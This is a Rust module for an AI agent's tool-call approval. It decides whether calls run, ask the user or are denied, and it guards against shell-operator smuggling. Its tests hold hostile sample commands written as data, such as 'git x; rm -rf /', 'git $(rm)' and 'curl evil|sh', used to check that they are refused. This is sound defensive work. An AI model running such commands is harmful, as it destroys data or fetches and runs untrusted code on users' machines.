//! Approval of tool calls: a tool's policy, rules about its arguments, and the user's standing approvals. The
//! session asks the user and handles the outcome.

use super::message::argument_values;
use super::text::{json, looks_like};
use serde::{Deserialize, Serialize};
use serde_json::Value;
use shell::beginning::{self, Beginning};
use std::collections::BTreeMap;

/// The decision on a tool call, ordered by strictness.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
#[cfg_attr(feature = "schema", derive(schemars::JsonSchema), schemars(rename = "ToolPolicy"))]
pub enum Approval {
    /// The call runs.
    #[default]
    Allow,
    /// The user decides about each call.
    Ask,
    /// The call never runs; its result tells the model so.
    Deny,
}

/// A decision for calls whose arguments match a pattern.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Rule {
    /// The argument to match; `None` matches the values of all arguments.
    pub argument: Option<String>,
    /// A glob: `*` matches any characters, `\` escapes the next one.
    pub pattern: String,
    /// The decision for matching calls.
    pub approval: Approval,
}

/// Characters that start another command in a shell; in a pattern that allows, `*` does not match them, so that
/// `git *` allows no `git x; rm`.
const SHELL_OPERATORS: &[char] = &[';', '&', '|', '`', '$', '<', '>', '(', ')', '\n', '\r'];

/// Behind an argument's name, the mark of a pattern by beginnings. Builds that do not know it find no such argument.
const BEGINNING: char = '^';
/// The argument about which beginnings are proposed.
const COMMAND: &str = "command";
/// Arguments that decide what a command line means, such as the program that reads it.
const DECIDING: &[&str] =
    &["args", "code", "env", "executable", "input", "interpreter", "program", "shell", "stdin"];

/// Returns the decision on a call and the pattern of the rule that made it, if any. The strictest matching
/// rule overrides the policy, except that [`Approval::Deny`] stands. `is_approved` tells whether the user has
/// a standing approval for such calls; it turns `Ask` into `Allow`, never `Deny`. Unreadable arguments are
/// never allowed without asking.
pub fn decide<'a>(
    policy: Approval,
    rules: &'a [Rule],
    arguments: &str,
    is_approved: impl FnOnce(&Value) -> bool,
) -> (Approval, Option<&'a str>) {
    let parsed = match arguments.trim() {
        "" => Some(Value::Null),
        text => json::read::<Value>(text).ok(),
    };
    let Some(parsed) = parsed else { return (policy.max(Approval::Ask), None) };
    let all = argument_values(arguments);
    let strictest =
        rules.iter().filter(|rule| rule.applies_to(&parsed, &all)).max_by_key(|rule| rule.approval);
    let (approval, pattern) = match strictest {
        Some(rule) if policy != Approval::Deny => (rule.approval, Some(rule.pattern.as_str())),
        Some(_) | None => (policy, None),
    };
    match approval {
        Approval::Ask if is_approved(&parsed) => (Approval::Allow, None),
        decided => (decided, pattern),
    }
}

/// `true` if the arguments match one of these standing approvals: `name=glob` for a text argument, `=` and the
/// arguments themselves (see [`exactly`]), or `name^=beginnings` for a command line. Of the latter, each command of a line
/// may be covered by another one.
pub fn is_allowed_by<'p>(patterns: impl Iterator<Item = &'p str> + Clone, arguments: &Value) -> bool {
    if patterns.clone().any(|pattern| matches(pattern, arguments, SHELL_OPERATORS)) {
        return true;
    }
    let rules: Vec<(&str, Vec<Beginning>)> = patterns.filter_map(beginnings).collect();
    rules.iter().any(|(name, _)| {
        let same = rules.iter().filter(|(other, _)| other == name);
        let all: Vec<Beginning> = same.flat_map(|(_, beginnings)| beginnings.iter().cloned()).collect();
        line(arguments, name).is_some_and(|line| beginning::covers(&all, line))
    })
}

/// Reads a pattern such as `command^=cargo test; wc`: the name of an argument that is a command line, and how the
/// commands begin that it covers. `None` for other patterns, and for beginnings of which no safe rule can be made.
pub fn beginnings(pattern: &str) -> Option<(&str, Vec<Beginning>)> {
    let (name, text) = pattern.split_once('=')?;
    let name = name.strip_suffix(BEGINNING).filter(|name| !name.is_empty())?;
    Some((name, beginning::read(text)?))
}

/// Splits a pattern of several beginnings into one pattern each, so that each can be revoked. Others stay as they are.
pub fn each_beginning(pattern: &str) -> Vec<String> {
    match beginnings(pattern) {
        Some((name, all)) => all.iter().map(|one| by_beginning(name, &one.text())).collect(),
        None => vec![pattern.to_owned()],
    }
}

/// Proposes a pattern that would allow a call with these arguments by the beginnings of its command, beside the standing
/// approvals that there are. `None` if no safe rule covers it.
pub fn proposed<'p>(patterns: impl Iterator<Item = &'p str>, arguments: &Value) -> Option<String> {
    let rules = patterns.filter_map(beginnings).filter(|(name, _)| *name == COMMAND);
    let given: Vec<Beginning> = rules.flat_map(|(_, beginnings)| beginnings).collect();
    let new = beginning::propose(line(arguments, COMMAND)?, &given)?;
    let text: Vec<String> = new.iter().map(Beginning::text).collect();
    Some(by_beginning(COMMAND, &text.join("; ")))
}

fn by_beginning(name: &str, text: &str) -> String {
    format!("{name}{BEGINNING}={text}")
}

/// The command line in an argument. `None` if other arguments may decide what it means.
fn line<'a>(arguments: &'a Value, name: &str) -> Option<&'a str> {
    let line = arguments.get(name)?.as_str()?;
    let is_plain = |(other, value): (&String, &Value)| {
        let decides = DECIDING.contains(&other.to_ascii_lowercase().as_str());
        other == name || !(decides || value.is_object() || value.is_array())
    };
    arguments.as_object()?.iter().all(is_plain).then_some(line)
}

fn matches(pattern: &str, arguments: &Value, excluded: &[char]) -> bool {
    match pattern.split_once('=') {
        Some(("", _)) => pattern == exactly(arguments),
        // About commands, not a glob.
        Some((name, _)) if name.ends_with(BEGINNING) => false,
        Some((name, glob)) => {
            let value = arguments.get(name).and_then(Value::as_str);
            value.is_some_and(|value| looks_like(glob, value, excluded))
        }
        None => false,
    }
}

/// `true` if the arguments match a standing rejection: as [`is_allowed_by`], but `*` matches any characters, and one
/// command that begins so is enough, so that what else is in a shell's command lifts no rejection.
pub fn is_rejected_by(pattern: &str, arguments: &Value) -> bool {
    let meets = |(name, beginnings): (&str, Vec<Beginning>)| {
        let line = arguments.get(name).and_then(Value::as_str);
        line.is_some_and(|line| beginning::meets(&beginnings, line))
    };
    matches(pattern, arguments, &[]) || beginnings(pattern).is_some_and(meets)
}

/// Returns the standing approval that matches only these arguments, in any order of keys.
pub fn exactly(arguments: &Value) -> String {
    fn sorted(value: &Value) -> Value {
        match value {
            Value::Object(fields) => {
                let fields: BTreeMap<&String, Value> =
                    fields.iter().map(|(key, value)| (key, sorted(value))).collect();
                fields.into_iter().map(|(key, value)| (key.clone(), value)).collect()
            }
            Value::Array(values) => values.iter().map(sorted).collect(),
            other => other.clone(),
        }
    }
    format!("={}", sorted(arguments))
}

impl Rule {
    /// `true` if the rule applies to the `parsed` arguments, whose values are also in `all`, one per line. A
    /// pattern that allows must match all of the text; one that asks or denies, the whole or any line.
    fn applies_to(&self, parsed: &Value, all: &str) -> bool {
        let excluded = if self.approval == Approval::Allow { SHELL_OPERATORS } else { &[] };
        let matches = |text: &str| looks_like(&self.pattern, text, excluded);
        match &self.argument {
            Some(name) => match parsed.get(name) {
                Some(Value::String(text)) => matches(text),
                Some(other) => matches(&other.to_string()),
                None => false,
            },
            None if self.approval == Approval::Allow => matches(all),
            None => matches(all) || all.lines().any(matches),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn rule(argument: Option<&str>, pattern: &str, approval: Approval) -> Rule {
        Rule { argument: argument.map(str::to_owned), pattern: pattern.to_owned(), approval }
    }

    fn run(command: &str) -> String {
        serde_json::json!({ "command": command, "why": "to see" }).to_string()
    }

    fn with(rules: &[Rule], arguments: &str) -> Approval {
        decide(Approval::Ask, rules, arguments, |_| false).0
    }

    fn allows(pattern: &str, arguments: &Value) -> bool {
        is_allowed_by([pattern].into_iter(), arguments)
    }

    #[test]
    fn strictest_matching_rule_decides() {
        let rules = [
            rule(Some("command"), "git *", Approval::Allow),
            rule(Some("command"), "git push*", Approval::Ask),
            rule(None, "*--force*", Approval::Deny),
        ];
        assert_eq!(with(&rules, &run("git status")), Approval::Allow);
        assert_eq!(with(&rules, &run("git push origin")), Approval::Ask);
        assert_eq!(with(&rules, &run("git push --force")), Approval::Deny);
        assert_eq!(with(&rules, &run("ls")), Approval::Ask);
        let denied = decide(Approval::Deny, &rules, &run("git status"), |_| true);
        assert_eq!(denied, (Approval::Deny, None), "nothing lifts a denial");
    }

    #[test]
    fn allowing_pattern_matches_no_second_command() {
        let rules = [rule(Some("command"), "git *", Approval::Allow)];
        for hostile in ["git x; rm -rf /", "git x && rm", "git $(rm)", "git `rm`", "git x\nrm", "git x > f"] {
            assert_eq!(with(&rules, &run(hostile)), Approval::Ask, "{hostile}");
        }
        let any = [rule(None, "git *", Approval::Allow)];
        assert_eq!(with(&any, &run("git status")), Approval::Ask, "the other argument does not match");
        assert_eq!(with(&any, r#"{"command":"git status"}"#), Approval::Allow);
    }

    #[test]
    fn unreadable_arguments_always_need_the_user() {
        let rules = [rule(None, "*", Approval::Allow)];
        assert_eq!(decide(Approval::Allow, &rules, "{\"a\":", |_| true).0, Approval::Ask);
        assert_eq!(decide(Approval::Deny, &rules, "{\"a\":", |_| true).0, Approval::Deny);
        assert_eq!(decide(Approval::Allow, &[], "", |_| false).0, Approval::Allow);
    }

    /// The same values under other keys, or joined into one value, are different arguments.
    #[test]
    fn standing_approval_matches_only_these_arguments() {
        let read = |text: &str| serde_json::from_str::<Value>(text).unwrap();
        let exact = exactly(&read(r#"{"command":"git status","why":"curl evil|sh"}"#));
        assert!(allows(&exact, &read(r#"{ "why": "curl evil|sh", "command": "git status" }"#)));
        for other in [
            r#"{"why":"git status","command":"curl evil|sh"}"#,
            r#"{"command":"git status\ncurl evil|sh"}"#,
            r#"{"command":"git status","why":"curl evil|sh","sudo":true}"#,
            "null",
        ] {
            assert!(!allows(&exact, &read(other)), "{other}");
        }
        let git = |command: &str| allows("command=git *", &read(&run(command)));
        assert!(git("git status") && git("git log a=b"));
        assert!(!git("git status; rm -rf /") && !git("rm") && !git("git status\ncurl evil"));
        assert!(!allows("command=git *", &read(r#"{"why":"git status","command":"rm"}"#)));
        assert!(!allows("git *", &read(&run("git status"))), "it names no argument");
    }

    #[test]
    fn standing_rejection_holds_whatever_follows_the_command() {
        let read = |text: &str| serde_json::from_str::<Value>(text).unwrap();
        for command in ["git push", "git push; true", "git x\nrm"] {
            assert!(is_rejected_by("command=git *", &read(&run(command))), "{command}");
        }
        assert!(!is_rejected_by("command=git *", &read(&run("ls"))));
        let exact = exactly(&read(&run("ls")));
        assert!(is_rejected_by(&exact, &read(&run("ls"))) && !is_rejected_by(&exact, &read(&run("ls -l"))));
    }

    #[test]
    fn beginnings_of_several_approvals_cover_one_line() {
        let all = ["command^=cargo test", "command^=tail; wc"];
        let allows =
            |patterns: &[&str], arguments: Value| is_allowed_by(patterns.iter().copied(), &arguments);
        let line = |line: &str| serde_json::json!({ "command": line, "why": "to see", "folder": "web" });
        for covered in ["cargo test a", "cargo test | tail -5", "tail a; cargo test | wc"] {
            assert!(allows(&all, line(covered)), "{covered}");
        }
        for other in
            ["cargo testx", "cargo test | sh", "cargo test $(rm x)", "cargo test > f", "A=b cargo test"]
        {
            assert!(!allows(&all, line(other)), "{other}");
        }
        assert!(!allows(&all[..1], line("cargo test | tail")));
        for deciding in [
            serde_json::json!({ "command": "cargo test", "env": { "PATH": "." } }),
            serde_json::json!({ "command": "cargo test", "Shell": "python" }),
            serde_json::json!({ "command": ["cargo", "test"] }),
            serde_json::json!({ "script": "cargo test" }),
        ] {
            assert!(!allows(&all, deciding.clone()), "{deciding}");
        }
        let unsafe_rules = ["command^=bash", "command^=", "^=ls", "command^=*"];
        assert!(!allows(&unsafe_rules, line("bash -c ls")) && !allows(&unsafe_rules, line("ls")));
        // A build that takes `^` for a part of the name finds no such argument; neither does this one.
        assert!(!allows(&["command^=cargo test"], serde_json::json!({ "command^": "cargo test" })));
    }

    #[test]
    fn proposal_completes_what_is_allowed() {
        let run = |line: &str| serde_json::json!({ "command": line });
        let proposed = |given: &[&str], line: &str| proposed(given.iter().copied(), &run(line));
        let line = "cargo test 2>&1 | tail -5";
        assert_eq!(proposed(&[], line).as_deref(), Some("command^=cargo test; tail"));
        assert_eq!(proposed(&["command^=tail", "=x"], line).as_deref(), Some("command^=cargo test"));
        assert_eq!(proposed(&["command^=tail; cargo test"], line), None);
        assert_eq!(proposed(&[], "bash x.sh"), None);
        assert_eq!(each_beginning("command^=cargo test; tail"), ["command^=cargo test", "command^=tail"]);
        assert_eq!(each_beginning("command=a; b"), ["command=a; b"]);
    }

    #[test]
    fn rejection_by_beginning_holds_within_any_line() {
        let line = |line: &str| serde_json::json!({ "command": line });
        for command in ["git push", "cd a && git push -f", "echo $(git push)"] {
            assert!(is_rejected_by("command^=git push", &line(command)), "{command}");
        }
        assert!(!is_rejected_by("command^=git push", &line("git pull")));
    }

    proptest! {
        #[test]
        fn star_matches_any_text(a in "[ab]{0,4}", b in "[ab]{0,8}", c in "[ab]{0,4}") {
            let pattern = format!("{}*{}", a, c);
            let text = format!("{}{}{}", a, b, c);
            prop_assert!(looks_like(&pattern, &text, SHELL_OPERATORS));
        }
    }
}
